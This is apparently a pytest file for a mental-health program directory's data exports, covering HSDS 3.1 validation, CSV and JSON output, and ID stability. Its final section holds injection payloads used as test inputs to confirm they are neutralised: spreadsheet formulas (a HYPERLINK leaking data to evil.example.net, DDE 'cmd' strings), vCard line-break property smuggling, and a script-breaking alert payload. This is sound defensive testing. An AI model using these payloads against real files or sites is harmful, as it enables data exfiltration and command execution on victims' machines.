"""Open data exports: programs.json, programs.csv and HSDS 3.1 service records checked against the official schema.

The HSDS schemas are a copy of Open Referral's (CC BY-SA 4.0; see tests/fixtures/hsds-3.1/README.md), read offline.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import importlib.util
import io
import json
import uuid
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from generator import export, model, samhsa
from generator.dataset import load_dataset

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures"
HSDS = FIXTURES / "hsds-3.1"
SITE_URL = "https://iop-finder.example.org/"
TODAY = dt.date(2026, 11, 23)

_spec = importlib.util.spec_from_file_location("hsds_validate", HSDS / "validate.py")
hsds_validate = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(hsds_validate)


@pytest.fixture(scope="module")
def small():
    """The three-program test fixture."""
    ds = load_dataset(FIXTURES / "data", root=ROOT, today=TODAY)
    assert not ds.errors
    return ds


@pytest.fixture(scope="module")
def sample():
    """The 36 sample programs."""
    ds = load_dataset(ROOT / "data", root=ROOT, today=dt.date.today())
    assert not ds.errors
    return ds


@pytest.fixture(scope="module")
def imported(tmp_path_factory):
    """The 8 programs imported from the SAMHSA sample rows, loaded with the real vocabularies."""
    rows = samhsa.read_rows(FIXTURES / "samhsa" / "samhsa-locator-2019-va.json")
    result = samhsa.import_rows(rows, as_of=dt.date(2019, 5, 23))
    path = tmp_path_factory.mktemp("import") / "samhsa-va.yaml"
    path.write_text(samhsa.render_yaml(result.records, "../../schema/programs.schema.json"), encoding="utf-8")
    ds = load_dataset(ROOT / "data", root=ROOT, today=dt.date.today(), program_files=[path])
    assert not ds.errors
    return ds


def _errors(records: list[dict], schema: str = "service.json") -> list[str]:
    return [
        f"$[{i}]{e.json_path[1:]}: {e.message}"
        for i, record in enumerate(records)
        for e in hsds_validate.validation_errors(record, schema)
    ]


def _strict(schema):
    """The schema with additionalProperties: false everywhere, as Open Referral checks its own examples."""
    if isinstance(schema, dict):
        out = {k: _strict(v) for k, v in schema.items()}
        if "properties" in out:
            out["additionalProperties"] = False
        return out
    if isinstance(schema, list):
        return [_strict(v) for v in schema]
    return schema


# --- HSDS 3.1 ---------------------------------------------------------------------------------------------------


def test_every_sample_service_record_validates_against_hsds_3_1(sample):
    services = export.hsds_services(sample, SITE_URL)
    assert len(services) == 36
    assert _errors(services) == []
    assert _errors(services, "compiled/service_with_definitions.json") == []


def test_imported_samhsa_programs_validate_against_hsds_3_1(imported):
    services = export.hsds_services(imported, SITE_URL)
    assert len(services) == 8
    assert _errors(services) == []


def test_service_records_use_only_properties_hsds_defines(sample):
    schema = json.loads((HSDS / "schema" / "compiled" / "service_with_definitions.json").read_text("utf-8"))
    validator = Draft202012Validator(_strict(schema), format_checker=Draft202012Validator.FORMAT_CHECKER)
    errors = [e.message for s in export.hsds_services(sample, SITE_URL) for e in validator.iter_errors(s)]
    assert errors == []


def test_broken_record_fails_so_the_check_is_real(small):
    record = copy.deepcopy(export.hsds_services(small, SITE_URL)[0])
    record["status"] = "open"
    record["phones"][0]["id"] = "not-a-uuid"
    assert _errors([record]) == [
        "$[0].phones[0].id: 'not-a-uuid' is not a 'uuid'",
        "$[0].status: 'open' is not one of ['active', 'inactive', 'defunct', 'temporarily closed']",
    ]


def test_ids_are_stable_uuids_that_share_digits_within_a_program(small):
    first = export.hsds_services(small, SITE_URL)
    again = export.hsds_services(small, SITE_URL)
    assert first == again
    service = next(s for s in first if s["name"] == "Riverbend Evening IOP")
    assert service["id"] == "6acb6d92-b691-8fa6-98ea-cea1209787a0"
    assert uuid.UUID(service["id"]).version == 8
    assert uuid.UUID(service["id"]).variant == uuid.RFC_4122
    # Every part of the program starts with the program's 19 characters; the same part of another program ends
    # with the same 17: that is what lets gzip store an id as a back-reference.
    parts = [service["phones"][0]["id"], service["service_at_locations"][0]["location_id"]]
    parts += [a["id"] for a in service["attributes"]]
    assert {i[:19] for i in parts} == {service["id"][:19]}
    other = next(s for s in first if s["name"] != "Riverbend Evening IOP")
    assert other["phones"][0]["id"][19:] == service["phones"][0]["id"][19:]
    assert other["phones"][0]["id"][:19] != service["phones"][0]["id"][:19]
    # Organizations, taxonomies and terms belong to no one program: uuid5 of their names.
    for name in ("service/a", "location/ü/日本", "x" * 500, ""):
        assert export._id(*name.split("/")) == str(uuid.uuid5(export.HSDS_NAMESPACE, name))


def test_part_ids_stay_unique_at_national_scale():
    """Two ids can only be equal if two program ids share the first 60 bits or two parts of one program share 62:
    check neither happens over 20,000 program ids and every part a program can have."""
    programs = [f"program-{i}" for i in range(20_000)]
    heads = {export._part_id("service", p)[:19] for p in programs}
    assert len(heads) == len(programs)
    parts = [("service",), ("phone",), ("location",), ("address",), ("service_at_location",), ("url",)]
    parts += [("schedule", str(i)) for i in range(50)]
    parts += [("language", code) for code in model.LANGUAGES]
    for taxonomy, choices in export.CHOICE_FIELDS:
        parts += [("attribute", taxonomy, code) for code in choices]
    parts += [("attribute", "telehealth", "telehealth")]
    parts += [("attribute", "conditions", f"condition-{i}") for i in range(500)]
    parts += [("attribute", "therapies", f"therapy-{i}") for i in range(500)]
    tails = {export._part_id(kind, "any", *item)[19:] for kind, *item in parts}
    assert len(tails) == len(parts)


def test_record_ids_are_unique_except_shared_organizations_and_terms(sample):
    ids: dict[str, set[str]] = {}

    def walk(value, kind):
        if isinstance(value, dict):
            if "id" in value:
                ids.setdefault(value["id"], set()).add(json.dumps(value, sort_keys=True))
            for key, child in value.items():
                walk(child, key)
        elif isinstance(value, list):
            for child in value:
                walk(child, kind)

    walk(export.hsds_services(sample, SITE_URL), "services")
    # One id, one thing: an id used twice always describes the same (shared) organization, taxonomy or term.
    assert [i for i, versions in ids.items() if len(versions) > 1] == []


def test_service_nests_organization_location_phone_schedule_and_attributes(small):
    service = next(s for s in export.hsds_services(small, SITE_URL) if s["name"] == "Hillside Day IOP")
    assert service["url"] == "https://iop-finder.example.org/programs/hillside-charlottesville/"
    assert service["status"] == "active"
    assert service["assured_date"] == "2024-01-15"
    assert service["alert"] == "Fictional sample record: this program does not exist."
    assert service["organization"]["name"] == "Hillside Day IOP"
    assert [(p["number"], p.get("extension")) for p in service["phones"]] == [("434-555-0102", 12)]
    location = service["service_at_locations"][0]["location"]
    assert location["addresses"][0] == {
        "id": location["addresses"][0]["id"],
        "location_id": location["id"],
        "address_1": "2 Example Way",
        "city": "Charlottesville",
        "state_province": "VA",
        "postal_code": "22901",
        "country": "US",
        "address_type": "physical",
    }
    assert location["description"] == "The map point is the centre of the ZIP code, not the building."
    terms = {t["id"]: t for t in export.hsds_taxonomy_terms(small, SITE_URL)}
    assert [(a["link_type"], terms[a["taxonomy_term_id"]]["code"]) for a in service["attributes"]] == [
        ("focus", "mental_health"),
        ("levels_of_care", "iop"),
        ("populations", "adolescents"),
        ("payment", "medicaid"),
        ("conditions", "depression"),
        ("therapies", "dbt"),
    ]
    therapy = terms[service["attributes"][-1]["taxonomy_term_id"]]
    assert (therapy["name"], therapy["term_uri"]) == (
        "Dialectical behavior therapy (DBT)",
        "https://iop-finder.example.org/therapies/dbt/",
    )
    assert "taxonomy_term" not in service["attributes"][0]  # terms are published once, in taxonomy_terms.json
    assert [lang["code"] for lang in service["languages"]] == ["en"]


def test_schedules_come_from_details_sessions_and_days(sample):
    service = next(s for s in export.hsds_services(sample, SITE_URL) if s["name"].startswith("Harbor Light"))
    assert [{k: v for k, v in s.items() if k not in ("id", "service_id")} for s in service["schedules"]] == [
        {
            "description": "9 hours a week over 3 days, for about 8 to 12 weeks; evening sessions. Mon, Wed, Thu 6–9 pm",
            "attending_type": "In person or by video",
            "freq": "WEEKLY",
            "wkst": "MO",
            "interval": 1,
            "byday": "MO,WE,TH",
            "opens_at": "18:00:00",
            "closes_at": "21:00:00",
        }
    ]


@pytest.mark.parametrize(
    "details, expected",
    [
        ("Mon, Wed, Thu 6–9 pm", [("MO,WE,TH", "18:00:00", "21:00:00")]),
        ("Mon–Thu 9:30 am–12:30 pm", [("MO,TU,WE,TH", "09:30:00", "12:30:00")]),
        ("Tue and Thu 6–9 pm, Sat 9 am–1 pm", [("TU,TH", "18:00:00", "21:00:00"), ("SA", "09:00:00", "13:00:00")]),
        (
            "Morning group Mon–Thu 9–11:30 am; evening group Mon–Thu 5:30–8 pm",
            [("MO,TU,WE,TH", "09:00:00", "11:30:00"), ("MO,TU,WE,TH", "17:30:00", "20:00:00")],
        ),
        ("Mon 11–1 pm", [("MO", "11:00:00", "13:00:00")]),
        ("Lun, Mié, Jue 6–9 pm (Mon, Wed, Thu 6–9 pm)", [("MO,WE,TH", "18:00:00", "21:00:00")]),
        ("Call for times", []),
    ],
)
def test_schedule_details_are_read_as_weekly_slots(details, expected):
    assert [(s["byday"], s["opens_at"], s["closes_at"]) for s in export.parse_slots(details)] == expected


def test_imported_record_carries_a_review_alert(imported):
    service = next(s for s in export.hsds_services(imported, SITE_URL) if s["name"] == "Mental Wellness Now")
    assert service["alert"] == "Imported record not yet checked by IOP Finder; call to confirm before you go."
    assert service["assured_date"] == "2019-05-23"


# --- programs.json and programs.csv -----------------------------------------------------------------------------


def test_programs_json_holds_every_program_without_loader_bookkeeping(small):
    data = json.loads(export.programs_json(small))
    assert [p["id"] for p in data["programs"]] == ["hillside-charlottesville", "lakeside-chicago", "riverbend-richmond"]
    assert data["programs"][0] == {
        "id": "hillside-charlottesville",
        "name": "Hillside Day IOP",
        "example": True,
        "summary": "Day program for teens.",
        "focus": "mental_health",
        "levels_of_care": ["iop"],
        "address": {"street": "2 Example Way", "city": "Charlottesville", "state": "VA", "zip": "22901"},
        "phone": "434-555-0102 x12",
        "telehealth": False,
        "populations": ["adolescents"],
        "languages": ["en"],
        "schedule": {"hours_per_week": 6, "days_per_week": 3, "sessions": ["day"]},
        "conditions": ["depression"],
        "therapies": ["dbt"],
        "payment": ["medicaid"],
        "last_verified": "2024-01-15",
        "source": "Test record",
    }
    assert export.programs_json(small) == export.programs_json(small)


def test_programs_csv_has_one_row_per_program_with_lists_joined(small):
    text = export.programs_csv(small)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.splitlines()[0] == (
        "id,former_ids,name,organization,example,needs_review,summary,focus,levels_of_care,address.street,"
        "address.city,address.state,address.zip,location.lat,location.lon,phone,website,email,telehealth,telehealth_only,"
        "populations,languages,ages.min,ages.max,schedule.hours_per_week,schedule.days_per_week,schedule.sessions,"
        "schedule.length_weeks.min,schedule.length_weeks.max,schedule.details,new_patients.status,"
        "new_patients.confirmed,intake.ways,intake.hours,conditions,therapies,medications,"
        "services,payment,insurers,accreditations,licenses,staff_credentials,medical_director.name,"
        "medical_director.credentials,medical_director.board_certifications,last_verified,source,external_ids,"
        "translations.es.summary,translations.es.schedule_details"
    )
    assert len(rows) == 3
    riverbend = rows[2]
    assert {
        k: riverbend[k]
        for k in (
            "id",
            "levels_of_care",
            "address.zip",
            "location.lat",
            "languages",
            "conditions",
            "therapies",
            "payment",
            "example",
            "last_verified",
        )
    } == {
        "id": "riverbend-richmond",
        "levels_of_care": "iop; op",
        "address.zip": "23220",
        "location.lat": "37.5494",
        "languages": "en; es",
        "conditions": "ptsd; alcohol-use",
        "therapies": "cbt; dbt",
        "payment": "medicaid; private_insurance",
        "example": "true",
        "last_verified": "2026-10-01",
    }


def test_programs_csv_writes_accreditations_and_licences_readably(sample):
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export.programs_csv(sample)))}
    harbor = rows["harbor-light-richmond"]
    assert harbor["accreditations"] == "joint_commission 548213"
    assert harbor["licenses"] == "Virginia Department of Behavioral Health and Developmental Services IOP-2024-0173"
    assert harbor["medical_director.name"] == "Dr. Maya Okafor"
    assert len(rows) == 36


def test_taxonomy_terms_validate_and_cover_every_attribute(sample):
    terms = export.hsds_taxonomy_terms(sample, SITE_URL)
    ids = {t["id"] for t in terms}
    assert len(ids) == len(terms)
    used = {a["taxonomy_term_id"] for s in export.hsds_services(sample, SITE_URL) for a in s["attributes"]}
    assert used <= ids
    assert _errors(terms, "taxonomy_term.json") == []


def test_hsds_services_json_is_the_same_records(sample):
    assert json.loads(export.hsds_services_json(sample, SITE_URL)) == json.loads(
        export.hsds_json(export.hsds_services(sample, SITE_URL))
    )


# --- Files people open elsewhere: spreadsheets, address books, script elements (issue 14, item 5) ---------------

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example.net/?leak="&A1,"Click for details")',
    "organization": "+cmd|' /C calc'!A0",
    "summary": "-2+3+cmd|' /C calc'!A0",
    "address.street": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address.city": "=1+1",
    "schedule.details": "-1+1 Mon, Wed 6-9 pm",
    "source": "@import",
}


@pytest.fixture(scope="module")
def formula_programs(tmp_path_factory):
    """A valid program whose text fields hold spreadsheet formulas, next to an ordinary one."""
    text = (FIXTURES / "data" / "programs.yaml").read_text(encoding="utf-8")
    records = __import__("yaml").safe_load(text)["programs"][:1]
    hostile = copy.deepcopy(records[0])
    hostile.update(id="formula-richmond", phone="804-555-0190", insurers=["=1+1", "Anthem", "-x"])
    for dotted, value in FORMULAS.items():
        target = hostile
        *parents, last = dotted.split(".")
        for part in parents:
            target = target[part]
        target[last] = value
    path = tmp_path_factory.mktemp("formulas") / "programs.yaml"
    path.write_text(
        __import__("yaml").safe_dump({"programs": records + [hostile]}, allow_unicode=True, sort_keys=False),
        encoding="utf-8",
    )
    ds = load_dataset(FIXTURES / "data", root=ROOT, today=TODAY, program_files=[path])
    assert not ds.errors, ds.errors
    return ds


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(formula_programs):
    rows = list(csv.DictReader(io.StringIO(export.programs_csv(formula_programs))))
    row = next(r for r in rows if r["id"] == "formula-richmond")
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert row["insurers"] == "'=1+1; Anthem; -x"
    # No cell of any row starts like a formula, except numbers such as the longitude, which stay numbers.
    for r in rows:
        for column, cell in r.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                assert _is_number(cell), f"{r['id']}.{column} would run as a formula: {cell!r}"
    assert row["location.lon"] == "-77.4591" and float(row["location.lon"]) == -77.4591
    # Ordinary text is untouched.
    plain = next(r for r in rows if r["id"] != "formula-richmond")
    assert plain["name"] == "Riverbend Evening IOP" and plain["phone"] == "804-555-0101"


def test_csv_cells_are_quoted_so_commas_quotes_and_line_breaks_stay_in_their_cell():
    spec = export.csv_columns()[0][1]
    assert export._cell("\tTab", spec) == "'\tTab" and export._cell("\rCR", spec) == "'\rCR"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow([export._cell(v, spec) for v in ('a,"b"', "x\r\ny", "=1")])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ['a,"b"', "x\r\ny", "'=1"]


def _hostile_card(value: str) -> dict:
    return {
        "name": f"Evil {value}Name",
        "organization": f"Org{value}TEL:+1-555-0000",
        "summary": f"Summary{value}END:VCARD{value}BEGIN:VCARD",
        "phone": "540-217-6366 x110",
        "website": f"https://example.org/{value}URL:https://evil.example.net/",
        "email": f"intake@example.org{value}EMAIL:evil@example.net",
        "address": {"street": f"1 Main St{value}NOTE:evil", "city": f"X{value}X-EVIL:1", "state": "VA", "zip": "22901"},
    }


@pytest.mark.parametrize(
    "line_end", ["\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\r\n "], ids=repr
)
def test_vcard_line_breaks_in_values_never_add_a_property(line_end):
    import vobject
    from test_js_parity import run_js
    from test_referral import js_card

    p = _hostile_card(line_end)
    (text,) = run_js([("vcard", [js_card(p, p["summary"] + " Details: " + SITE_URL + "programs/x/")])])
    cards = list(vobject.readComponents(text))
    assert len(cards) == 1
    card = cards[0]
    assert sorted(card.contents) == ["adr", "email", "fn", "note", "org", "tel", "url", "version"]
    assert all(len(values) == 1 for values in card.contents.values())
    broken = line_end.replace("\r\n", "\n")
    broken = "\n" + broken[1:] if broken[0] != "\n" else broken  # every line end comes back as one "\n"
    assert card.fn.value == f"Evil {broken}Name"
    assert card.org.value == [f"Org{broken}TEL:+1-555-0000"]
    assert card.adr.value.street == f"1 Main St{broken}NOTE:evil" and card.adr.value.city == f"X{broken}X-EVIL:1"
    assert card.tel.value == "+1-540-217-6366;ext=110"
    kept = line_end.lstrip("\r\n\u2028\u2029\x85\x0b\x0c\x1c")  # plain values lose their line ends
    assert card.url.value == f"https://example.org/{kept}URL:https://evil.example.net/"
    assert card.email.value == f"intake@example.org{kept}EMAIL:evil@example.net"
    assert card.note.value.startswith(f"Summary{broken}END:VCARD{broken}BEGIN:VCARD Details: ")
    # Every physical line is a property or a folded continuation (which starts with a space).
    for line in text.split("\r\n")[:-1]:
        assert line.startswith(" ") or line.split(":", 1)[0].split(";")[0] in {
            "BEGIN", "VERSION", "FN", "ORG", "TEL", "ADR", "EMAIL", "URL", "NOTE", "END"
        }, repr(line)  # fmt: skip


def test_json_in_html_escapes_what_would_end_the_script_and_keeps_the_value():
    from html.parser import HTMLParser

    from generator.referral import json_in_html

    data = {"name": "</script><script>alert(1)</script><!-- x --> & \u2028\u2029 é 🌱"}
    text = json_in_html(data)
    assert not set(text) & set("<>&\u2028\u2029")
    assert json.loads(text) == data

    class Script(HTMLParser):
        bodies: list = []

        def handle_data(self, chunk):
            self.bodies.append(chunk)

    parser = Script()
    parser.feed(f'<script type="application/ld+json">{text}</script><p>after</p>')
    assert parser.bodies == [text, "after"]
